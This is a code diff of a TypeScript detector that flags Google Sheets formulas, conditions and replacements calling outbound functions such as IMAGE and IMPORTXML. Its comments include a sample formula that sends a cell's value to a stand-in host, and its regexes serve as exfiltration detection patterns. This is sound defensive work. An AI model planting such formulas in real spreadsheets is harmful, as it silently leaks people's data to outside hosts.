@@ -1,25 +1,17 @@
-/**
- * The Sheets functions that fetch from, or reveal to, a host outside the person's account each
- * time the spreadsheet is computed (issue 37): the URL they are given, built from cells or not,
- * is requested by Google's servers, so a formula such as `=IMAGE("https://example.net/?"&A1)`
- * sends A1 to example.net. IMPORTRANGE reads another spreadsheet, which may be anyone's.
- * Sources (Google Docs Editors Help): IMPORTXML answer/3093342, IMPORTDATA answer/3093335,
- * IMPORTHTML answer/3093339, IMPORTFEED answer/3093337, IMAGE answer/3093333, IMPORTRANGE
- * answer/3093340 (support.google.com/docs/answer/…).
- */
-export const FETCH_FUNCTIONS = [
-  'IMPORTXML',
-  'IMPORTDATA',
-  'IMPORTHTML',
-  'IMPORTFEED',
-  'IMAGE',
-  'IMPORTRANGE',
-] as const;
-export type FetchFunction = (typeof FETCH_FUNCTIONS)[number];
+import { codeOf, OUTBOUND_FUNCTIONS } from '../kit/formula-text.ts';
 
-// A name as a whole word (not MYIMAGE, not IMAGE_1): what Sheets would call.
-const CALLED = new RegExp(`(?<![A-Z0-9_.])(${FETCH_FUNCTIONS.join('|')})\\s*\\(`, 'gi');
-const NAMED = new RegExp(`(?<![A-Z0-9_.])(${FETCH_FUNCTIONS.join('|')})(?![A-Z0-9_])`, 'gi');
+/**
+ * Formulas that fetch from, or reveal to, a host outside the person's account each time the
+ * spreadsheet is computed (issue 37): the URL such a function is given, built from cells or not,
+ * is requested by Google's servers, so `=IMAGE("https://example.net/?"&A1)` sends A1 to
+ * example.net. The functions are kit/formula-text.ts' OUTBOUND_FUNCTIONS (sources in
+ * docs/design.md §11.10); a name inside a string literal is text, not a call.
+ */
+export type FetchFunction = (typeof OUTBOUND_FUNCTIONS)[number];
+
+const CALLED = new RegExp(`(?<![\\w.])(${OUTBOUND_FUNCTIONS.join('|')})\\s*\\(`, 'gi');
+// A name as a whole word, called or not: what a replacement may put into a formula.
+const NAMED = new RegExp(`(?<![\\w.])(${OUTBOUND_FUNCTIONS.join('|')})(?![\\w])`, 'gi');
 const URL_HOST = /https?:\/\/([^/?#"'\s:]+)/gi;
 
 /** What one piece of text would fetch: the functions it calls and the hosts it names literally. */
@@ -31,17 +23,19 @@ export interface FetchUse {
 
 /** The fetch functions a formula (a value starting with `=`) calls; undefined when it calls none. */
 export function fetchesInFormula(value: string): FetchUse | undefined {
-  if (!value.trimStart().startsWith('=')) return undefined;
-  return uses(value, CALLED);
+  const formula = value.trimStart();
+  return formula.startsWith('=') ? uses(formula, codeOf(formula), CALLED) : undefined;
 }
 
 /**
- * The fetch functions a rule condition's text calls (`CUSTOM_FORMULA =…`, `NUMBER_GREATER =A1`):
+ * The fetch functions a rule condition's text calls (`CUSTOM_FORMULA =…`, `NUMBER_GREATER =…`):
  * a formula from its first `=` on.
  */
 export function fetchesInCondition(condition: string): FetchUse | undefined {
   const start = condition.indexOf('=');
-  return start < 0 ? undefined : uses(condition.slice(start), CALLED);
+  if (start < 0) return undefined;
+  const formula = condition.slice(start);
+  return uses(formula, codeOf(formula), CALLED);
 }
 
 /**
@@ -49,12 +43,12 @@ export function fetchesInCondition(condition: string): FetchUse | undefined {
  * enough (`SUM` → `IMAGE` turns `=SUM(A1)` into `=IMAGE(A1)`).
  */
 export function fetchesInReplacement(replacement: string): FetchUse | undefined {
-  return uses(replacement, NAMED);
+  return uses(replacement, replacement, NAMED);
 }
 
-function uses(text: string, pattern: RegExp): FetchUse | undefined {
+function uses(text: string, code: string, pattern: RegExp): FetchUse | undefined {
   const functions = new Set<FetchFunction>();
-  for (const match of text.matchAll(pattern)) functions.add(match[1]!.toUpperCase() as FetchFunction);
+  for (const match of code.matchAll(pattern)) functions.add(match[1]!.toUpperCase() as FetchFunction);
   if (functions.size === 0) return undefined;
   const hosts = new Set<string>();
   for (const match of text.matchAll(URL_HOST)) hosts.add(match[1]!.toLowerCase());
